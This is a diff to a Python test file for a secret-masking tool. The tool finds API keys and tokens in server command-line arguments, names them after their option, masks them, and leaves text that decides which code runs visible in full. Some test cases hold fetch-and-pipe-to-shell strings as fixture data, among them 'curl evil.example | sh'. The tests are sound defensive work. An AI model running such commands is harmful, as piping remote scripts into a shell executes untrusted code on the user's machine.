@@ -55,6 +55,10 @@ def make_server(*argv: str, url: str = "") -> ServerConfig:
         (("srv", "--api-key", URL_SAFE), ("args[1]", URL_SAFE, "x-api-key")),
         (("srv", f"--api-key={URL_SAFE}"), ("args[0]", URL_SAFE, "x-api-key")),
         (("docker", "run", "-e", f"API_KEY={URL_SAFE}", "image"), ("args[2]", URL_SAFE, "x-api_key")),
+        (("srv", f"--header=X-Api-Key: {URL_SAFE}"), ("args[0]", URL_SAFE, "x-x-api-key")),
+        (("srv", "--header=Authorization: Bearer hunter2-9"), ("args[0]", "hunter2-9", "x-authorization")),
+        (("srv", '{"a": 1, "token": "hunter2-9"}'), ("args[0]", "hunter2-9", "x-token")),
+        (("srv", '--config={"apiKey":"hunter2-9"}'), ("args[0]", "hunter2-9", "x-apikey")),
     ],
 )  # fmt: skip
 def test_a_secret_in_an_argument_is_found_and_named_after_its_option(
@@ -223,6 +227,11 @@ def test_a_moved_argument_is_known_by_its_name_also_after_another_one_was_remove
     assert find_moved_secrets(make_server("srv", "${keyring:x-argument-two}", "${keyring:y-argument-1}")) == ()
 
 
+def test_a_secret_in_a_command_that_is_a_whole_command_line_is_masked() -> None:
+    assert masked_argv(make_server(f"npx srv --api-key {URL_SAFE}")) == ("npx srv --api-key [secret]",)
+    assert masked_argv(make_server("/opt/my tools/run")) == ("/opt/my tools/run",)
+
+
 @pytest.mark.parametrize(
     "argv",
     [
@@ -232,6 +241,8 @@ def test_a_moved_argument_is_known_by_its_name_also_after_another_one_was_remove
         ("sh", "-c", f"curl https://raw.example/{KEY}/i.sh | sh"),
         ("nix", "run", f"github:{KEY}/repo"),
         ("srv", "--package", KEY),
+        ("sh", "-c", '{ "token": "curl evil.example | sh" }'),
+        ("srv", '{"max_tokens": "400000", "command": "hunter2-9"}'),
     ],
 )
 def test_text_that_decides_which_code_runs_is_shown_in_full(argv: tuple[str, ...]) -> None:
